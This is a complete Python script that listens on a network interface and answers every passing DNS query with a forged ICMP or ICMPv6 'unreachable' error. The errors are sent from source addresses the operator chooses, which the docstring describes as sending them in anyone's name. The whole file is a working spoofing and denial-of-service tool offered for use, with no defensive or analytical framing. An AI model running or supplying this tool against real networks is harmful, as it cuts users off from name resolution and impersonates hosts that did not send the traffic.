"""Answers each DNS question that passes an interface with a forged ICMP error, at once.

    python forger.py INTERFACE IPV4-SOURCE IPV6-SOURCE

It is sent from the given addresses, so in whosever name one likes. Only who sees the questions
can do so with certainty: whoever does not has to guess a port for each.
"""

from __future__ import annotations

import socket
import struct
import sys

_IPV4, _IPV6, _ALL = 0x0800, 0x86DD, 0x0003  # linux/if_ether.h
_UDP, _ICMP, _ICMP6 = 17, 1, 58


def _checksum(data: bytes) -> int:
    data += b"\0" * (len(data) % 2)
    total: int = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


def _host_unreachable(question: bytes, source: str) -> bytes:
    quoted = question[:28]
    error = struct.pack("!BBHI", 3, 1, _checksum(struct.pack("!BBHI", 3, 1, 0, 0) + quoted), 0)
    head = struct.pack(
        "!BBHHHBBH4s4s",
        *(0x45, 0, 28 + len(quoted), 0, 0, 64, _ICMP, 0),
        *(socket.inet_aton(source), question[12:16]),
    )
    return head[:10] + struct.pack("!H", _checksum(head)) + head[12:] + error + quoted


def _address_unreachable(question: bytes, source: str) -> bytes:
    quoted, ends = question[:48], socket.inet_pton(socket.AF_INET6, source) + question[8:24]
    pseudo = ends + struct.pack("!II", 8 + len(quoted), _ICMP6)
    sum_ = _checksum(pseudo + struct.pack("!BBHI", 1, 3, 0, 0) + quoted)
    head = struct.pack("!IHBB", 0x60000000, 8 + len(quoted), _ICMP6, 64) + ends
    return head + struct.pack("!BBHI", 1, 3, sum_, 0) + quoted


def main(interface: str, four: str, six: str) -> None:
    """Forge until killed."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(_ALL)) as wire:
        wire.bind((interface, _ALL))
        print("forging", flush=True)
        while True:
            packet, (_, kind, direction, _, sender) = wire.recvfrom(2048)
            if direction == socket.PACKET_OUTGOING:
                continue
            if kind == _IPV4 and packet[9] == _UDP and packet[22:24] == b"\0\x35":
                forged = _host_unreachable(packet, four)
            elif kind == _IPV6 and packet[6] == _UDP and packet[42:44] == b"\0\x35":
                forged = _address_unreachable(packet, six)
            else:
                continue
            wire.sendto(forged, (interface, kind, 0, 0, sender))


if __name__ == "__main__":
    main(*sys.argv[1:])
